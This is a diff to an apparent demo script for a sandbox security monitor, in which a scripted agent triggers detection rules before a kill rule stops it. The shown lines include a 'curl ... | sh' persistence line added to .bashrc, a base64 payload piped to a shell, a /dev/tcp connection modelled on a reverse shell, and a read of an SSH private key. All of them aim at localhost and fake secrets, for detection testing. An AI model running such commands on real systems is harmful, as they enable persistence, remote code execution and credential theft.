@@ -1,7 +1,7 @@
 """`monitor demo`: the embedded default job. A scripted "agent" works in a sandbox: ordinary
 work first (git, an editor's writes, a C build and run), then the things SecOps worries about
 (credential reads, persistence, a binary run from /tmp, a decoded payload piped to a shell, a
-miner-pool port), shown live with the shipped rule pack, and ends when a demo `kill` rule stops
+shell's own TCP connection), shown live with the shipped rule pack, and ends when a demo `kill` rule stops
 the sandbox as it reaches for an SSH private key. Exit status 137 says the policy killed it.
 
 The view keeps pace with the narration: before each step is narrated, the agent runs a marker
@@ -9,7 +9,7 @@ The view keeps pace with the narration: before each step is narrated, the agent 
 answers the marker with a file). After the key is read
 the agent waits: the kill ends it, and the demo says so once the run has ended.
 
-Nothing leaves the machine: the "miner pool" is 127.0.0.1:3333 and every secret is a fake one
+Nothing leaves the machine: the connection goes to 127.0.0.1:3333 and every secret is a fake one
 in a temporary home directory.
 """
 
@@ -64,8 +64,8 @@ echo 'curl http://127.0.0.1:9/x | sh' >> "$HOME/.bashrc"
 step "runs a binary dropped in /tmp"
 cp /bin/true "$TMPBIN" && "$TMPBIN"
 step "decodes a payload and pipes it to a shell"
-echo 'ZWNobyBwd25lZAo=' | base64 -d | sh > /dev/null
-step "contacts a mining-pool port (127.0.0.1:3333)"
+sh -c 'echo ZWNobyBwd25lZAo= | base64 -d | sh' > /dev/null
+step "opens a TCP connection from the shell itself (/dev/tcp, as a reverse shell does)"
 (exec 3<>/dev/tcp/127.0.0.1/3333) 2>/dev/null || true
 step "reaches for an SSH private key (the demo's kill rule), then waits for what comes"
 cat "$HOME/.ssh/id_demo" > /dev/null
